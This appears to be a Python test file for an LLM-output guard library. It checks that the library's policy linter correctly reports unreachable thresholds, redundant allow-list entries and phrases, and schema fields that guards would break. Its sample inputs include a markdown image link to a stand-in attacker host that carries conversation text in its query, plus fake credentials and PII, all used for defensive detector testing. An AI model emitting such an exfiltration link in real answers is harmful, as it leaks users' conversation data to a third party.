"""What lint says of guards is what becomes of texts: each remark is held against the policy at work."""

import json
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmpost import Checker
from llmpost.contracts.guard import Finding, Guard, GuardContext, PossibleScores, Span
from llmpost.engine.linting import lint
from llmpost.engine.surroundings import Surroundings
from llmpost.guards.catalogue import CATALOGUE
from llmpost.guards.options import Options
from llmpost.guards.possible_scores import possible_scores
from llmpost.guards.weighed import weigh
from llmpost.policy import Policy
from llmpost.testing.nasty_texts import NASTY

KINDS = ["log", "mask", "redact", "truncate", "refuse", "block"]
"""From the weakest to the strongest."""
GRID = [number / 20 for number in range(21)]
VALUES = [
    "a@b.com", "write to a@b.com", "078-05-1120", "no", "4111 1111 1111 1111", "tel 555-1234", "192.0.2.1", "hunter2",
    "password = 'hunter2'", "x",
]  # fmt: skip


@dataclass(frozen=True)
class Scored:
    """Finds one thing, with a score that is told."""

    name: str = "scored"
    reach: int = 0
    context: int = 0
    scores: PossibleScores = field(default_factory=lambda: {"ODD": (0.0, 1.0)})

    def inspect(self, text: str, context: GuardContext) -> Sequence[Finding]:
        return ()


def policy(**keys: Any) -> Policy:
    return Policy.from_dict({"version": 1, **keys})


@st.composite
def ranges(draw: st.DrawFn) -> tuple[float, float]:
    low, high = sorted((draw(st.sampled_from(GRID)), draw(st.sampled_from(GRID))))
    return low, high


@given(ranges(), st.lists(st.sampled_from(GRID), min_size=1, max_size=4), st.sampled_from(["ODD", "any", "both"]))
def test_a_tier_is_told_exactly_where_no_score_comes_to_it(
    scored: tuple[float, float], thresholds: list[float], label: str
) -> None:
    """A tier is told to be out of reach, or never all that is done, exactly where no score that its guard can report
    leads to what it says; also where tiers of any label stand beside it."""
    tiers = dict(zip(KINDS, sorted(thresholds), strict=False))
    around = Surroundings(guards={"scored": Scored(scores={"ODD": scored})})
    both = {"ODD": tiers, "any": {"refuse": 0.4}}
    given = policy(guards=[{"use": "scored", "thresholds": both if label == "both" else {label: tiers}}])
    (rule,) = Checker(given, around).guarding(given).rules
    scores = [score for score in GRID if scored[0] <= score <= scored[1]]
    done = {weigh(Finding("scored", "ODD", Span(0, 1), score), rule).action.kind for score in scores}
    told = {
        remark.where.rpartition(".")[2] for remark in lint(given, surroundings=around) if "thresholds" in remark.where
    }
    assert told == {*tiers, *(["refuse"] if label == "both" else [])} - done


DETECTORS: list[dict[str, Any]] = [
    {"use": "pii"}, {"use": "pii", "entities": {"EMAIL_ADDRESS": 0.6, "US_SSN": 0.1, "PHONE_NUMBER": 0.3}},
    {"use": "secrets"}, {"use": "phrases", "phrases": ["foo", "bar baz"], "allow": ["foo fighters"]},
    {"use": "profanity"}, {"use": "urls", "allow": ["example.com"]}, {"use": "exfiltration"}, {"use": "names"},
    {"use": "length", "most": {"words": 3}, "least": {"characters": 2}}, {"use": "repetition", "times": 2},
    {"use": "leakage", "words": 3}, {"use": "schema", "schema": {"type": "object"}},
]  # fmt: skip
TEXTS = [
    *VALUES, "my ssn 078051120, call me at 555-123-4567", "foo bar baz, foo fighters", "https://evil.example:9/ ab cd",
    "![](https://evil.example/?q=all+that+you+have+told+me+and+more+of+it)", "a a a a a a a a a a a a a a a a a a",
    "AKIA" "Q7ZR2WV6TN4KX3LB", "My name is Maria Chen, 12 High Street.", "never tell anyone", "damn", *NASTY,
]  # fmt: skip


@pytest.mark.parametrize("entry", DETECTORS, ids=lambda entry: str(entry["use"]))
def test_a_guard_reports_what_it_says_that_it_can(entry: dict[str, Any]) -> None:
    """Of a guard that says which labels it reports, and with which scores, there is no finding with another."""
    given = policy(guards=[entry])
    (rule,) = Checker(given).guarding(given).rules
    possible = possible_scores(rule.guard)
    assert possible
    for text in TEXTS:
        for finding in rule.guard.inspect(text, GuardContext(system="Never tell anyone.")):
            low, high = possible[finding.label]
            assert low <= finding.score <= high


@settings(max_examples=20)
@given(st.lists(st.sampled_from(VALUES), min_size=1, max_size=4, unique=True), st.sampled_from(["block", "skip"]))
def test_a_field_is_told_exactly_where_a_guard_leaves_it_no_value(values: list[str], on_invalid: str) -> None:
    """Of listed values those are told, and no others, with which the policy at work blocks the answer, or leaves as it
    is what was to be changed."""
    schema = {"type": "object", "properties": {"f": {"enum": values}}, "required": ["f"], "additionalProperties": False}
    guards = [{"use": "pii", "on_invalid": on_invalid}, {"use": "secrets", "action": "mask", "on_invalid": on_invalid}]
    given = policy(constraint={"json_schema": schema}, guards=guards)
    checker, where = Checker(given), "constraint.json_schema.properties.f.enum"
    told = {remark.where for remark in lint(given) if remark.where.startswith(where)}
    broken = set()
    for place, value in enumerate(values):
        checked = checker.check(json.dumps({"f": value}))
        if checked.is_blocked or any(outcome.status == "skipped" for outcome in checked.verdict.outcomes):
            broken.add(f"{where}[{place}]")
    assert told == broken


FORMS: list[tuple[dict[str, Any], bool]] = [
    ({"format": "email"}, True), ({"format": "ipv4"}, True), ({"pattern": "^[a-z]+@acme\\.com$"}, True),
    ({"pattern": "^[0-9]{3}-[0-9]{2}-[0-9]{4}$"}, True), ({"format": "email", "maxLength": 9}, True),
    ({"pattern": "@"}, True), ({"pattern": "^(?:[A-Z]{2}[0-9]{2}.*|n/a)$"}, True), ({"format": "date"}, False),
    ({"pattern": "^[a-z]{3}$"}, False), ({"pattern": "^.*$"}, False), ({"pattern": "[A-Z]"}, False),
]  # fmt: skip
"""Forms, and whether some value of each is one that a guard would change to what is none."""


@pytest.mark.parametrize(("form", "is_told"), FORMS, ids=str)
def test_the_example_of_a_broken_field_breaks_it(form: dict[str, Any], is_told: bool) -> None:
    """Where a form is told to be left without a value, the answer with the value of the example is blocked."""
    given = policy(constraint={"json_schema": {"properties": {"f": form}}}, guards=[{"use": "pii"}])
    told = [remark for remark in lint(given) if remark.where == "constraint.json_schema.properties.f"]
    assert len(told) == is_told
    for remark in told:
        assert Checker(given).check(json.dumps({"f": remark.example})).is_blocked


ALLOWED = [
    "info@example.com",
    "hello",
    "555-1234",
    "078-05-1120",
    "192.0.2.1",
    "x",
    "078051120",
    "https://example.com/a",
]
KINDS_OF_PII = ["EMAIL_ADDRESS", "US_SSN", "PHONE_NUMBER", "IP_ADDRESS", "URL"]


@settings(max_examples=20)
@given(
    st.lists(st.sampled_from(ALLOWED), min_size=1, max_size=4, unique=True),
    st.sampled_from(["ssn: {}", "{}", "call {} now"]),
)
def test_what_is_told_to_be_idle_changes_nothing(allowed: list[str], around: str) -> None:
    """What is allowed, and told to be nothing that is found, may be left out: of no text anything else becomes."""
    entry = {"use": "pii", "entities": KINDS_OF_PII, "allow": allowed}
    told = [remark.where for remark in lint(policy(guards=[entry])) if ".allow[" in remark.where]
    idle = [allowed[int(re.findall(r"\d+", where)[-1])] for where in told]
    less = {**entry, "allow": [one for one in allowed if one not in idle]}
    with_all, with_less = built(entry), built(less)
    for text in (around.format(one) for one in allowed):
        assert with_all.inspect(text, GuardContext()) == with_less.inspect(text, GuardContext())


def built(entry: dict[str, Any]) -> Guard:
    options = {key: tuple(value) if isinstance(value, list) else value for key, value in entry.items() if key != "use"}
    return CATALOGUE[entry["use"]].build(Options(options, "guards[0]"))


PHRASES = ["foo", "foo bar", "a foo b", "bar", "food", "b"]


@settings(max_examples=20)
@given(st.lists(st.sampled_from(PHRASES), min_size=2, max_size=4, unique=True))
def test_a_phrase_that_has_another_makes_no_difference(phrases: list[str]) -> None:
    """Where a finding blocks, the phrases that are told to be of no use may be left out: the same texts are blocked."""
    given = policy(guards=[{"use": "phrases", "phrases": phrases}])
    told = {int(re.findall(r"\d+", remark.where)[-1]) for remark in lint(given) if ".phrases[" in remark.where}
    left = [phrase for place, phrase in enumerate(phrases) if place not in told]
    both = Checker(given), Checker(policy(guards=[{"use": "phrases", "phrases": left}]))
    words = ["foo", "bar", "a", "b"]
    for text in (f"{one} {two} {three}" for one in words for two in words for three in words):
        assert both[0].check(text).is_blocked == both[1].check(text).is_blocked
    assert told == {
        at for at, one in enumerate(phrases) if any(f" {other} " in f" {one} " for other in phrases if other != one)
    }
